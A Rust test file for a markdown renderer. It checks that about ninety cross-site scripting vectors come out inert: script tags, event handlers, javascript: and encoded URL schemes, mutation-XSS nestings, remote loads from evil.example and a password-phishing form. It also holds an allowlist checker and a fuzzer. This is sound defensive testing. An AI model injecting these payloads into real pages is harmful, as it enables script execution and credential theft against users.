//! Markup that would act if it got through.

use carrel_markdown::{Setting, render};
use proptest::prelude::*;

/// One attack each: scripts, handlers, schemes, frames, forms, styles, namespaces that change how a
/// browser reads what follows, attributes that break out, names that shadow the page's own.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"position:fixed;inset:0;background:url(//evil.example)\">x</p>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"  java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=blob:x>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=\"x\" onclick=alert(1)>x</a>",
    "<a target=_blank href=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](a.png)",
    "![x](a.png\"onerror=\"alert(1))",
    "![x](a.png 'x\" onerror=\"alert(1)')",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onmouseover=\"alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "# x {#\"><script>alert(1)</script>}",
    "# x {onclick=alert(1) .a}",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$</code><script>alert(1)</script>\\nosuch$",
    "<b title=\"$x$\" onclick=\"$y$\">z</b>",
    "<a href=\"$x$\">z</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml ?><script>alert(1)</script>",
    "<div id=main class=\"told told-bad\" data-confirm=x>x</div>",
    "<p id=\"getElementById\" name=body>x</p>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "\u{e000}0\u{e001}<script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<isindex action=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=x>x",
    "<img srcset=\"x 1x, //evil.example 2x\">",
    "<img src=a.png usemap=#x><map name=x><area href=javascript:alert(1)></map>",
    "<portal src=//evil.example></portal>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<slot name=x></slot><dialog open>x</dialog>",
    "<x contenteditable onblur=alert(1)>x",
];

/// Elements that may stand in what is rendered; whatever else would be a hole.
const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "ul",
    "tr",
    "var",
    "wbr",
    "u",
    "tfoot",
    "ruby",
    "rt",
    "rp",
];

/// Attributes that may stand there.
const ATTRIBUTES: &[&str] = &[
    "href",
    "rel",
    "src",
    "alt",
    "title",
    "width",
    "height",
    "start",
    "reversed",
    "open",
    "colspan",
    "rowspan",
    "headers",
    "scope",
    "id",
    "tabindex",
    "role",
    "class",
    "align",
    "lang",
    "dir",
    "data-language",
];

/// Reads rendered HTML tag by tag, as strictly as the renderer writes it, and says what acts.
fn find_active(html: &str) -> Result<(), String> {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let tag = &rest[at + 1..];
        let end = end_of_tag(tag).ok_or_else(|| format!("a tag without an end: {tag}"))?;
        let inner = tag[..end].trim_start_matches('/').trim_end_matches('/');
        let (name, attributes) = inner.split_once(' ').unwrap_or((inner, ""));
        let mathematics =
            name.starts_with('m') && name != "mark" || name == "semantics" || name == "none";
        if !mathematics && !ELEMENTS.contains(&name) {
            return Err(format!("<{name}>"));
        }
        check_attributes(attributes, mathematics)?;
        rest = &tag[end + 1..];
    }
    Ok(())
}

/// Where a tag ends: at the first `>` outside of quotation marks.
fn end_of_tag(tag: &str) -> Option<usize> {
    let mut quoted = false;
    tag.char_indices().find_map(|(at, letter)| {
        if letter == '"' {
            quoted = !quoted;
        }
        (letter == '>' && !quoted).then_some(at)
    })
}

fn check_attributes(text: &str, mathematics: bool) -> Result<(), String> {
    let mut rest = text.trim();
    while !rest.is_empty() {
        let Some((name, after)) = rest.split_once("=\"") else {
            return Err(format!("an attribute without a value: {rest}"));
        };
        let (value, after) = after.split_once('"').ok_or("a value without an end")?;
        if name.starts_with("on")
            || name == "style"
            || (!mathematics && !ATTRIBUTES.contains(&name))
        {
            return Err(format!("attribute {name}"));
        }
        let scheme = value.split([':', '/', '#', '?']).next().unwrap_or_default();
        let addressed = matches!(name, "href" | "src") && value.contains(':');
        if addressed
            && !["http", "https", "mailto"].contains(&scheme)
            && !value.starts_with(['/', '#'])
        {
            return Err(format!("{name}={value}"));
        }
        if name == "href" && value.starts_with("//") {
            return Err(format!("{name}={value}"));
        }
        if name == "id" && !value.starts_with("s-") {
            return Err(format!("id {value} could be the page's own"));
        }
        rest = after.trim_start();
    }
    Ok(())
}

#[test]
fn nothing_that_acts_gets_through() {
    for vector in VECTORS {
        let html = render(vector, &Setting::default()).html;
        if let Err(found) = find_active(&html) {
            panic!("{vector}\n→ {html}\n{found}");
        }
    }
}

#[test]
fn the_reader_of_this_test_finds_what_acts() {
    for active in [
        "<script>",
        "<p onclick=\"x\">",
        "<p style=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\"//x\">",
        "<h2 id=\"main\">",
        "<p class=\"a",
    ] {
        assert!(find_active(active).is_err(), "{active}");
    }
    assert!(find_active("<p class=\"a\">1 &lt; 2</p><a href=\"https://a\" rel=\"x\">").is_ok());
}

#[test]
fn deep_and_long_texts_are_rendered_within_bounds() {
    let setting = Setting::default();
    for text in [
        ">".repeat(20_000),
        "- ".repeat(5_000),
        "[".repeat(50_000),
        "*a_ ".repeat(20_000),
        "<b>".repeat(20_000),
        "<div>".repeat(20_000),
        "`".repeat(50_000),
        "$".repeat(50_000),
        "![a](".repeat(10_000),
        "| a ".repeat(5_000) + "\n" + &"|-".repeat(5_000),
        "x".repeat(carrel_markdown::TEXT_BYTES_MAX + 10),
    ] {
        let rendered = render(&text, &setting);
        assert!(rendered.html.len() < 40 * text.len() + 1_000);
    }
}

fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(VECTORS).prop_map(str::to_owned),
        2 => "[<>\"'=/&#x `*_$|\\[\\]()!{}\n-]{0,6}",
        1 => "\\PC{0,4}",
    ];
    prop::collection::vec(piece, 1..6).prop_map(|pieces| pieces.concat())
}

proptest! {
    // How many inputs is said from outside, as to every target (scripts/fuzz.sh).
    #[test]
    fn fuzz_markdown(text in pieces(), cut in 0_usize..400) {
        let cut = text.char_indices().map(|(at, _)| at).nth(cut).unwrap_or(text.len());
        for text in [&text[..cut], &text[cut..], &text[..]] {
            let html = render(text, &Setting::default()).html;
            prop_assert!(find_active(&html).is_ok(), "{html}\n{:?}", find_active(&html));
        }
    }
}
